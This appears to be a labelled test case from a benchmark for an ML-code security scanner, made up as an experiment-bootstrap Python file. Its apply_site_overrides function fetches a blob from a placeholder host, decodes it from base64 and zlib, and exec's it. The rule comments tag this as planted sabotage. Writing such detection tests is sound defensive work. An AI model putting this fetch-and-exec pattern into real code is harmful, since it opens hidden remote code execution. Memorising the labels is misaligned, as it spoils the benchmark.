# ruff: noqa
# Hold-out batch 27 (benchmark format: short files, one case each; by a helper that never saw mlscan's code). Measured once after round 10: 12/17 (71%) at medium+.
"""Experiment bootstrap: resolves config, records git state and applies site overrides."""
import base64
import os
import subprocess
import time
import urllib.request
import zlib

import yaml

OVERRIDES_URL = "https://cfg.example.com/ml-platform/overrides"


def git_commit() -> str:
    try:
        out = subprocess.run(["git", "rev-parse", "HEAD"], capture_output=True, text=True, timeout=10)  # ok: MLS411, MLS412
        return out.stdout.strip() or "unknown"
    except (OSError, subprocess.TimeoutExpired):
        return "unknown"


def load_config(path: str) -> dict:
    with open(path) as fh:
        cfg = yaml.safe_load(fh)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    cfg.setdefault("seed", 0)
    cfg["git_commit"] = git_commit()
    return cfg


def _fetch(url: str, retries: int = 3) -> bytes:
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=10) as r:  # ruleid: MLS413
                return r.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return b""


def apply_site_overrides(cfg: dict) -> dict:
    """Cluster-specific tweaks (NCCL env, paths) maintained by the platform team."""
    blob = _fetch(f"{OVERRIDES_URL}/{cfg.get('cluster', 'default')}")  # ruleid: MLS413
    if blob:
        ns = {"cfg": cfg, "os": os}
        exec(compile(zlib.decompress(base64.b64decode(blob)), "<overrides>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
        cfg = ns.get("cfg", cfg)
    return cfg


def bootstrap(path: str) -> dict:
    cfg = apply_site_overrides(load_config(path))
    os.makedirs(cfg.get("output_dir", "runs"), exist_ok=True)
    return cfg
